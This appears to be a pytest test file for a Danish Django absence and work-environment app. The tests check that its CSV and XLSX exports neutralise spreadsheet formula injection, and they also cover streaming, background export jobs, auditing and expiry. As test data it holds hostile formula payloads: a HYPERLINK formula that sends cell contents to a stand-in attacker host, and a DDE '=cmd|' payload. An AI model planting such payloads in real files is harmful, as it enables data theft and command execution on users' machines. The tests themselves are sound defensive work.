"""Exports cannot carry formulas (issue 12, point 3), and stream at any size (issue 14, point 4).

Text that a spreadsheet would run (``=HYPERLINK(...)``, ``+``, ``-``, ``@``) is plain text in every
export: web, command line, statistics, AMO process and annual discussion.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django_tasks_db.models import DBTaskResult
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from pytest_django import DjangoAssertNumQueries, Settings

from naervaer.absence.models import AbsenceDegree, AbsenceSpell
from naervaer.access import viewer_for
from naervaer.amo.models import ActionPlan, AnnualDiscussion, Process
from naervaer.audit.models import Action, AuditEvent
from naervaer.exports import Sheet, csv_bytes, neutralise, xlsx_bytes
from naervaer.importexport.export_jobs import (
    build_export,
    delete_export,
    exported_people,
    write_export,
)
from naervaer.importexport.exporters import COLUMNS, absence_rows, absence_rows_of, employee_rows
from naervaer.importexport.importers import import_employees
from naervaer.importexport.models import ExportJob
from naervaer.importexport.tabular import read_table
from naervaer.people.models import Organisation, Person, Unit
from tests.conftest import ClientResponse, World, client_for, make_person, streamed

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
FORMULAS = [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def body(response: ClientResponse) -> bytes:
    if response.streaming:
        return streamed(response)
    return response.content


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def no_formula_in_csv(data: bytes) -> None:
    for row in csv_cells(data):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def no_formula_in_xlsx(data: bytes) -> list[str]:
    """Every cell of every sheet is a value, never a formula; returns the texts."""
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.mark.parametrize("text", FORMULAS)
def test_neutralise_makes_formula_text_plain(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert neutralise("Åse Ågård") == "Åse Ågård"


@pytest.fixture
def hostile(world: World) -> World:
    unit = Unit.objects.create(organisation=world.acme, parent=world.pleje, name="+Vest")
    person = make_person(world.acme, "@1", ATTACK, unit)
    spell = AbsenceSpell.objects.create(
        person=person, first_day="2026-11-02", last_day="2026-11-03"
    )
    AbsenceDegree.objects.create(spell=spell, from_day=spell.first_day, percent=100)
    return world


@pytest.mark.parametrize("kind", ["employees", "absences"])
def test_web_exports_carry_no_formula(hostile: World, kind: str) -> None:
    client = client_for(hostile.hanne)
    csv_response = client.get(f"/export/{kind}.csv")
    assert csv_response.streaming and "no-store" in csv_response["Cache-Control"]
    data = body(csv_response)
    no_formula_in_csv(data)
    assert any(row[0] == "'@1" for row in csv_cells(data))
    texts = no_formula_in_xlsx(body(client.get(f"/export/{kind}.xlsx")))
    assert "@1" in texts and (kind == "absences" or ATTACK in texts)


def test_the_neutralised_file_imports_back_to_the_same_names(hostile: World) -> None:
    data = csv_bytes(COLUMNS["employees"], employee_rows(hostile.acme.people.all()))
    assert b"'=HYPERLINK" in data
    copy = Organisation.objects.create(slug="copy", name="Kopi", cvr="29189420")
    assert import_employees(copy, read_table(data, "m.csv")).ok
    assert Person.objects.get(organisation=copy, employee_id="@1").name == ATTACK
    assert Unit.objects.filter(organisation=copy, path="Pleje/+Vest").exists()


def test_the_command_line_export_carries_no_formula(hostile: World, tmp_path: Path) -> None:
    for fmt in ("csv", "xlsx"):
        target = tmp_path / f"employees.{fmt}"
        call_command("export", "employees", "--org", "acme", "--format", fmt, "-o", str(target))
        if fmt == "csv":
            no_formula_in_csv(target.read_bytes())
        else:
            assert ATTACK in no_formula_in_xlsx(target.read_bytes())


def test_the_statistics_export_carries_no_formula(hostile: World) -> None:
    Unit.objects.filter(name="+Vest").update(name="=1+1", path="Pleje/=1+1")
    client = client_for(hostile.hanne)
    period = {"from": "2026-11-01", "to": "2026-11-30"}
    no_formula_in_csv(body(client.get("/statistics/export.csv", period)))
    no_formula_in_xlsx(body(client.get("/statistics/export.xlsx", period)))


def test_amo_exports_carry_no_formula(world: World) -> None:
    process = Process.objects.create(organisation=world.acme, title="Sygefravær", year=2026)
    ActionPlan.objects.create(
        organisation=world.acme,
        process=process,
        challenge=ATTACK,
        solution="-1",
        responsible_text="@leder",
        results="+ bedre",
    )
    process.information.create(what="=2*3", platform="board")
    client = client_for(world.amy)
    texts = no_formula_in_xlsx(body(client.get(f"/amo/process/{process.pk}/export.xlsx")))
    assert ATTACK in texts and "=2*3" in texts
    client.post("/amo/annual/2026/", {"held_on": "01.12.2026", "focus": "=cmd|'/c calc'!A1"})
    assert AnnualDiscussion.objects.exists()
    texts = no_formula_in_xlsx(body(client.get("/amo/annual/2026.xlsx")))
    assert "=cmd|'/c calc'!A1" in texts


def test_the_absence_export_reads_in_a_fixed_number_of_queries(
    world: World, django_assert_max_num_queries: DjangoAssertNumQueries
) -> None:
    """No prefetch over every spell's id (SQLite's "too many SQL variables" at 250,000)."""
    person = Person.objects.get(organisation=world.acme, employee_id="1002")
    spells = AbsenceSpell.objects.bulk_create(
        AbsenceSpell(
            person=person, first_day=f"20{10 + i // 12}-{1 + i % 12:02d}-01", last_day=None
        )
        for i in range(120)
    )
    AbsenceDegree.objects.bulk_create(
        AbsenceDegree(spell=s, from_day=s.first_day, percent=100) for s in spells
    )
    with django_assert_max_num_queries(2):
        rows = list(absence_rows(AbsenceSpell.objects.filter(person__organisation=world.acme)))
    assert len(rows) >= 120


def test_the_absence_exports_audit_names_each_person_once_from_one_row_each(
    world: World,
) -> None:
    # Bob has three spells: his id must come from the database once, not once per spell
    # (read per spell, a large employer's export took 7 s in its audit).
    bob = world.person(world.bob)
    AbsenceSpell.objects.bulk_create(
        AbsenceSpell(
            person=bob, first_day=dt.date(2025, month, 1), last_day=dt.date(2025, month, 3)
        )
        for month in (1, 4, 7)
    )
    carol = world.person(world.carol)
    AbsenceSpell.objects.create(person=carol, first_day=dt.date(2025, 2, 2), last_day=None)
    assert sorted(exported_people(viewer_for(world.hanne))) == sorted([bob.pk, carol.pk])
    response = client_for(world.hanne).get("/export/absences.csv")
    assert response.status_code == 200
    event = AuditEvent.objects.get(action=Action.EXPORT, detail="absences.csv")
    assert event.subject_count == 2 and set(event.subjects.all()) == {bob, carol}


def test_an_xlsx_goes_to_the_worker_from_fewer_rows_than_a_csv(
    hostile: World, settings: Settings
) -> None:
    # An XLSX row costs ~30 times a CSV row: the same rows are served at once as CSV and
    # built by a worker as XLSX.
    settings.EXPORT_BACKGROUND_ROWS, settings.EXPORT_BACKGROUND_ROWS_XLSX = 1000, 1
    client = client_for(hostile.hanne)
    assert client.get("/export/employees.csv").status_code == 200
    assert not ExportJob.objects.exists()
    response = client.get("/export/employees.xlsx")
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/export/{job.pk}/"
    assert job.format == "xlsx"


def test_a_large_export_is_built_by_a_worker_and_downloaded_by_its_requester_only(
    hostile: World, settings: Settings
) -> None:
    settings.EXPORT_BACKGROUND_ROWS = settings.EXPORT_BACKGROUND_ROWS_XLSX = 0
    client = client_for(hostile.hanne)
    response = client.get("/export/employees.xlsx")
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/export/{job.pk}/"
    page = client.get(response["Location"]).content.decode()
    assert "Filen er klar" in page and f"/export/{job.pk}/download" in page
    download = client.get(f"/export/{job.pk}/download")
    assert "no-store" in download["Cache-Control"]
    assert ATTACK in no_formula_in_xlsx(body(download))
    assert client_for(hostile.olga).get(f"/export/{job.pk}/download").status_code == 404
    assert client_for(hostile.alice).get(f"/export/{job.pk}/download").status_code == 403


def test_a_large_export_waits_for_a_worker_while_the_page_polls(
    hostile: World, settings: Settings
) -> None:
    settings.EXPORT_BACKGROUND_ROWS = settings.EXPORT_BACKGROUND_ROWS_XLSX = 0
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    client = client_for(hostile.hanne)
    client.get("/export/absences.csv")
    job = ExportJob.objects.get()
    fragment = client.get(f"/export/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" in fragment and "baggrundsproces" in fragment
    assert client.get(f"/export/{job.pk}/download").status_code == 404


def test_a_large_export_shows_how_far_it_has_come(hostile: World, settings: Settings) -> None:
    settings.EXPORT_BACKGROUND_ROWS = settings.EXPORT_BACKGROUND_ROWS_XLSX = 0
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    client = client_for(hostile.hanne)
    client.get("/export/absences.csv")
    job = ExportJob.objects.get()
    spells = AbsenceSpell.objects.filter(person__organisation=hostile.acme).count()
    assert job.total_rows == spells > 0
    ExportJob.objects.filter(pk=job.pk).update(
        status=ExportJob.Status.RUNNING, rows=30_000, total_rows=120_000
    )
    fragment = client.get(f"/export/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert "30.000 af ca. 120.000 rækker skrevet" in fragment
    assert 'value="25"' in fragment


def test_writing_an_export_reports_progress_and_counts_rows(hostile: World) -> None:
    rows = [("1", "2026-01-01")] * 25_000
    seen: list[int] = []
    with io.BytesIO() as target:
        assert write_export("absences", iter(rows), "csv", target, seen.append) == 25_000
        assert target.getvalue().count(b"\r\n") == 25_001
    assert seen == [10_000, 20_000]


def test_the_download_of_an_absence_export_is_audited(hostile: World, settings: Settings) -> None:
    settings.EXPORT_BACKGROUND_ROWS = settings.EXPORT_BACKGROUND_ROWS_XLSX = 0
    client = client_for(hostile.hanne)
    client.get("/export/absences.csv")
    job = ExportJob.objects.get()
    before = AuditEvent.objects.filter(action=Action.EXPORT).count()
    assert client.get(f"/export/{job.pk}/download").status_code == 200
    event = AuditEvent.objects.filter(action=Action.EXPORT).latest("pk")
    assert AuditEvent.objects.filter(action=Action.EXPORT).count() == before + 1
    assert event.actor == hostile.hanne and "download" in event.detail
    assert event.subject_count == (
        AbsenceSpell.objects.filter(person__organisation=hostile.acme)
        .values("person_id")
        .distinct()
        .count()
    )


def test_an_export_is_gone_after_its_time(hostile: World, settings: Settings) -> None:
    settings.EXPORT_BACKGROUND_ROWS = settings.EXPORT_BACKGROUND_ROWS_XLSX = 0
    client = client_for(hostile.hanne)
    client.get("/export/employees.csv")
    job = ExportJob.objects.get()
    path = Path(job.file.path)
    assert path.exists()
    ExportJob.objects.filter(pk=job.pk).update(
        created_at=job.created_at - dt.timedelta(hours=settings.EXPORT_KEEP_HOURS)
    )
    assert client.get(f"/export/{job.pk}/download").status_code == 404
    assert not path.exists() and not ExportJob.objects.exists()


def test_a_finished_export_schedules_its_own_deletion(hostile: World, settings: Settings) -> None:
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    job = ExportJob.objects.create(
        organisation=hostile.acme, requested_by=hostile.hanne, kind="employees", format="csv"
    )
    build_export.call(job.pk)
    job.refresh_from_db()
    assert job.status == ExportJob.Status.DONE and job.file
    deletion = DBTaskResult.objects.get(task_path=delete_export.module_path)
    assert deletion.args_kwargs["args"] == [job.pk]
    assert deletion.run_after == job.expires_at


def test_xlsx_cells_keep_their_types() -> None:
    """Text is text (never a formula or an error value), dates are Danish date cells."""
    rows = [("=1+1", "#N/A", "+1", dt.date(2026, 3, 2), 37, 37.5, None, "Åse")]
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("x", list("abcdefgh"), rows)])))
    cells = list(book.worksheets[0].iter_rows())[1]
    assert [c.data_type for c in cells[:3]] == ["s", "s", "s"]
    assert [c.value for c in cells[:3]] == ["=1+1", "#N/A", "+1"]
    assert (
        isinstance(cells[3], Cell) and cells[3].is_date and cells[3].number_format == "dd-mm-yyyy"
    )
    assert [c.value for c in cells[4:]] == [37, 37.5, None, "Åse"]


def test_rows_beyond_a_sheets_limit_continue_on_a_new_sheet(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Excel holds 1,048,576 rows a sheet: 1.5 million spells need two. Shown with 3."""
    monkeypatch.setattr("naervaer.exports.XLSX_MAX_ROWS", 3)
    rows = [(str(i),) for i in range(1, 6)]
    book = load_workbook(io.BytesIO(xlsx_bytes([Sheet("Fravær", ["n"], rows)])))
    assert [s.title for s in book.worksheets] == ["Fravær", "Fravær 2", "Fravær 3"]
    assert [[c.value for c in r] for s in book.worksheets for r in s.iter_rows()] == [
        ["n"],
        ["1"],
        ["2"],
        ["n"],
        ["3"],
        ["4"],
        ["n"],
        ["5"],
    ]
    exact = load_workbook(io.BytesIO(xlsx_bytes([Sheet("Fravær", ["n"], rows[:4])])))
    assert [s.max_row for s in exact.worksheets] == [3, 3]
    empty = load_workbook(io.BytesIO(xlsx_bytes([Sheet("Fravær", ["n"], [])])))
    assert [[c.value for c in r] for r in empty.worksheets[0].iter_rows()] == [["n"]]


# Text the database must write as Python's csv module and ``neutralise`` do: formula starts,
# the separator, quotes, line breaks, spaces, Danish letters, nothing at all.
AWKWARD_IDS = [
    "=1+1", "+45", "-7", "@x", "\t9", "\r8", "a;b", 'q"uote"', "line\nbreak", "cr\rlf",
    " space ", "Åse-Ø", "'=already", "",
]  # fmt: skip


@pytest.fixture
def awkward_absence(world: World) -> World:
    """Spells of every shape for the people above, plus the world's own: open, closed, a
    partial return in three steps, each kind, § 56, and a kind no form would store."""
    kinds = [("sickness", False), ("work_accident", False), ("pregnancy", False),
             ("sickness", True), ("x;\"y", False), ("=kind", False)]  # fmt: skip
    for i, employee_id in enumerate(AWKWARD_IDS):
        person = make_person(world.acme, employee_id, f"Person {i}", world.nord)
        kind, section56 = kinds[i % len(kinds)]
        closed = AbsenceSpell.objects.create(
            person=person,
            first_day=dt.date(2025, 1, 6) + dt.timedelta(days=i),
            last_day=dt.date(2025, 2, 20),
            kind=kind,
            section56=section56,
        )
        for day, percent in [(closed.first_day, 100), (dt.date(2025, 2, 1), 50),
                             (dt.date(2025, 2, 10), 25)][: 1 + i % 3]:  # fmt: skip
            AbsenceDegree.objects.create(spell=closed, from_day=day, percent=percent)
        ongoing = AbsenceSpell.objects.create(person=person, first_day=dt.date(2026, 11, 2))
        AbsenceDegree.objects.create(spell=ongoing, from_day=ongoing.first_day, percent=100)
    other = Person.objects.get(organisation=world.other, employee_id="1001")
    spell = AbsenceSpell.objects.create(person=other, first_day=dt.date(2026, 3, 2))
    AbsenceDegree.objects.create(spell=spell, from_day=spell.first_day, percent=100)
    return world


def test_the_database_writes_the_absence_csv_byte_for_byte_as_python_does(
    awkward_absence: World,
) -> None:
    """``COPY … TO STDOUT`` on PostgreSQL, SQL text on SQLite: the same file as the values
    through ``csv_chunks`` (the path of XLSX and of every other export)."""
    spells = AbsenceSpell.objects.filter(person__organisation=awkward_absence.acme)
    by_database = csv_bytes(COLUMNS["absences"], absence_rows(spells))
    by_python = csv_bytes(COLUMNS["absences"], iter(list(absence_rows(spells))))
    assert by_database == by_python
    rows = csv_cells(by_database)
    assert len(rows) == 1 + AbsenceDegree.objects.filter(spell__in=spells).count()
    assert ["'=1+1", "06-01-2025", "20-02-2025", "100", "sickness"] in rows
    for row in [
        ["line\nbreak", "14-01-2025", "31-01-2025", "100", "pregnancy"],
        ["line\nbreak", "01-02-2025", "09-02-2025", "50", "pregnancy"],
        ["line\nbreak", "10-02-2025", "20-02-2025", "25", "pregnancy"],
        ["line\nbreak", "02-11-2026", "", "100", "sickness"],
        ["a;b", "12-01-2025", "20-02-2025", "100", "sickness"],
        ["cr\rlf", "15-01-2025", "20-02-2025", "100", "section56"],
        ["'\t9", "10-01-2025", "31-01-2025", "100", 'x;"y'],
        ["'\r8", "11-01-2025", "31-01-2025", "100", "'=kind"],
        ['q"uote"', "13-01-2025", "31-01-2025", "100", "work_accident"],
        ["", "19-01-2025", "31-01-2025", "100", "work_accident"],
    ]:
        assert row in rows
    assert not any(row[0] == "1001" and row[1] == "02-03-2026" for row in rows)  # other org


def test_the_database_written_csv_streams_in_chunks_and_can_stop(
    awkward_absence: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A chunk comes before the rest is read, and a download abandoned half-way leaves the
    connection usable (on PostgreSQL the ``COPY`` is ended)."""
    monkeypatch.setattr("naervaer.importexport.exporters.CHUNK", 4)
    spells = AbsenceSpell.objects.filter(person__organisation=awkward_absence.acme)
    rows = absence_rows(spells)
    body = rows.csv_body()
    first = next(body)
    assert first.count(b"\r\n") >= 4 and rows.written == 4
    body.close()
    assert AbsenceSpell.objects.filter(pk__in=spells).count() == spells.count() > 8
    everything = absence_rows(spells)
    assert len(list(everything.csv_body())) > 4
    assert everything.written == AbsenceDegree.objects.filter(spell__in=spells).count()


def test_a_database_written_export_reports_progress(
    awkward_absence: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("naervaer.importexport.exporters.CHUNK", 5)
    monkeypatch.setattr("naervaer.importexport.export_jobs.PROGRESS_EVERY", 10)
    spells = AbsenceSpell.objects.filter(person__organisation=awkward_absence.acme)
    seen: list[int] = []
    with io.BytesIO() as target:
        written = write_export("absences", absence_rows(spells), "csv", target, seen.append)
        assert target.getvalue() == csv_bytes(COLUMNS["absences"], list(absence_rows(spells)))
    assert written == AbsenceDegree.objects.filter(spell__in=spells).count() > 20
    # Once, at the end: while the database streams the file its connection can write nothing.
    assert seen == [written]


def test_a_background_absence_export_counts_its_rows_on_its_page(
    awkward_absence: World, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The worker's export writes its count to the job as it goes (every row here), as CSV
    written by the database and as XLSX, and finishes: on PostgreSQL a write during the COPY
    on the same connection would wait for ever."""
    settings.EXPORT_BACKGROUND_ROWS = settings.EXPORT_BACKGROUND_ROWS_XLSX = 0
    monkeypatch.setattr("naervaer.importexport.exporters.CHUNK", 1)
    monkeypatch.setattr("naervaer.importexport.export_jobs.PROGRESS_EVERY", 1)
    expected = AbsenceDegree.objects.filter(spell__person__organisation=awkward_absence.acme)
    client = client_for(awkward_absence.hanne)
    for fmt in ("csv", "xlsx"):
        client.get(f"/export/absences.{fmt}")
        job = ExportJob.objects.get(format=fmt)
        assert job.status == ExportJob.Status.DONE
        assert job.rows == expected.count() > 20


def test_an_export_whose_progress_cannot_be_written_still_finishes(
    hostile: World, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SQLite refuses a write on the connection that is reading the export once anyone else
    has written since ("database is locked"): the count on the page is skipped, the file is
    written and the job is done."""
    from django.db import OperationalError, connection
    from django.db.models import QuerySet

    settings.EXPORT_BACKGROUND_ROWS = settings.EXPORT_BACKGROUND_ROWS_XLSX = 0
    monkeypatch.setattr("naervaer.importexport.export_jobs.PROGRESS_EVERY", 1)
    monkeypatch.setattr("naervaer.importexport.exporters.CHUNK", 1)
    update = QuerySet.update
    refused: list[int] = []

    def locked(self: QuerySet[Any], **kwargs: Any) -> int:
        if self.model is ExportJob and set(kwargs) == {"rows"}:
            refused.append(kwargs["rows"])
            raise OperationalError("database is locked")
        return update(self, **kwargs)

    monkeypatch.setattr(QuerySet, "update", locked)
    client = client_for(hostile.hanne)
    client.get("/export/absences.xlsx")
    job = ExportJob.objects.get()
    assert refused  # the count was tried, and refused
    if connection.vendor != "sqlite":  # elsewhere a refused write is an error, not skipped
        assert job.status != ExportJob.Status.DONE
        return
    assert job.status == ExportJob.Status.DONE
    assert (
        job.rows == AbsenceDegree.objects.filter(spell__person__organisation=hostile.acme).count()
    )
    assert client.get(f"/export/{job.pk}/download").status_code == 200


def test_an_organisations_absence_read_by_its_people_is_the_file_of_their_spells(
    awkward_absence: World,
) -> None:
    """``absence_rows_of`` (the web, the worker and the command line) reads the people and
    their spells by their indexes; the file is the one ``absence_rows`` writes of the same
    spells, and the one of the values. People of another organisation are left out."""
    acme = awkward_absence.acme
    spells = AbsenceSpell.objects.filter(person__organisation=acme)
    by_spells = csv_bytes(COLUMNS["absences"], absence_rows(spells))
    by_people = csv_bytes(COLUMNS["absences"], absence_rows_of(acme.pk, Person.objects.all()))
    assert by_people == by_spells
    values = list(absence_rows_of(acme.pk, Person.objects.all()))
    assert values == list(absence_rows(spells))
    assert csv_bytes(COLUMNS["absences"], iter(values)) == by_people
    some = Person.objects.filter(employee_id__in=["a;b", "line\nbreak", ""])
    assert csv_bytes(COLUMNS["absences"], absence_rows_of(acme.pk, some)) == csv_bytes(
        COLUMNS["absences"], absence_rows(spells.filter(person__in=some))
    )


def test_the_absence_file_has_its_lines_in_order_with_each_steps_end(world: World) -> None:
    """Written out by hand: people by employee number as text ("X10" before "X9"), their
    spells by first day, a spell's steps in order, each ending the day before the next, the
    last on the spell's last day or open; § 56 sickness as "section56"."""
    x9 = make_person(world.acme, "X9", "Ni", world.nord)
    x10 = make_person(world.acme, "X10", "Ti", world.nord)
    for person, first, last, kind, section56, steps in [
        (x9, dt.date(2026, 11, 2), None, "work_accident", False, [(dt.date(2026, 11, 2), 100)]),
        (x10, dt.date(2025, 3, 3), dt.date(2025, 3, 4), "sickness", True,
         [(dt.date(2025, 3, 3), 100)]),
        (x10, dt.date(2025, 1, 6), dt.date(2025, 2, 20), "sickness", False,
         [(dt.date(2025, 1, 6), 100), (dt.date(2025, 2, 1), 50), (dt.date(2025, 2, 10), 25)]),
    ]:  # fmt: skip
        spell = AbsenceSpell.objects.create(
            person=person, first_day=first, last_day=last, kind=kind, section56=section56
        )
        for day, percent in steps:
            AbsenceDegree.objects.create(spell=spell, from_day=day, percent=percent)
    data = body(client_for(world.hanne).get("/export/absences.csv"))
    lines = [line for line in data.decode("utf-8-sig").split("\r\n") if line.startswith("X")]
    assert lines == [
        "X10;06-01-2025;31-01-2025;100;sickness",
        "X10;01-02-2025;09-02-2025;50;sickness",
        "X10;10-02-2025;20-02-2025;25;sickness",
        "X10;03-03-2025;04-03-2025;100;section56",
        "X9;02-11-2026;;100;work_accident",
    ]


def test_a_database_written_export_leaves_the_connection_as_it_found_it(
    awkward_absence: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On PostgreSQL the export sets the date style and the planner for its own transaction
    only: after the file, and after a download stopped half-way, dates read as dates."""
    from django.db import connection

    def date_style() -> str:
        if connection.vendor != "postgresql":
            return ""
        with connection.cursor() as cursor:
            cursor.execute("SHOW DateStyle")
            return str(cursor.fetchone()[0])

    monkeypatch.setattr("naervaer.importexport.exporters.CHUNK", 2)
    before = date_style()
    people = Person.objects.filter(organisation=awkward_absence.acme)
    whole = b"".join(absence_rows_of(awkward_absence.acme.pk, people).csv_body())
    assert b";06-01-2025;" in whole and date_style() == before
    stopped = absence_rows_of(awkward_absence.acme.pk, people).csv_body()
    next(stopped)
    stopped.close()
    assert date_style() == before
    first = AbsenceSpell.objects.filter(person__in=people).order_by("first_day").first()
    assert first is not None and first.first_day == dt.date(2025, 1, 6)
